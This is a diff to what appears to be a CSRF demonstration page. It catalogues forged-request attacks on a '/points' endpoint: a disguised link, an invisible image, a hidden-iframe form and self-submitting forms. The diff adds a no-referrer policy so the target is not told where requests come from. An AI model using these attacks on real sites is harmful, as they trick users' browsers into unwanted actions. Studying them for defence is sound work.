@@ -23,9 +23,12 @@ function onClaim(act) {
   if (asked.has("auto")) claim.click();
 }
 
+// A GET brings no Origin, and the page that it comes from need not be told either.
+const hidden = { referrerPolicy: "no-referrer" };
+
 const attacks = {
-  link: ["A link, dressed as a button", () => onClaim(() => add("a", { href: disguised() }).click())],
-  image: ["An image that is none", () => add("img", { src: disguised(), alt: "" })],
+  link: ["A link, dressed as a button", () => onClaim(() => add("a", { ...hidden, href: disguised() }).click())],
+  image: ["An image that is none", () => add("img", { ...hidden, src: disguised(), alt: "" })],
   frame: ["A form sent into a hidden frame", () => { add("iframe", { name: "hidden", hidden: true }); form("/points", loot, "hidden").submit(); }],
   form: ["A form with hidden fields, sent by your click", () => onClaim(() => form("/points", loot).submit())],
   autoform: ["The same form, sent by itself", () => form("/points", loot).submit()],
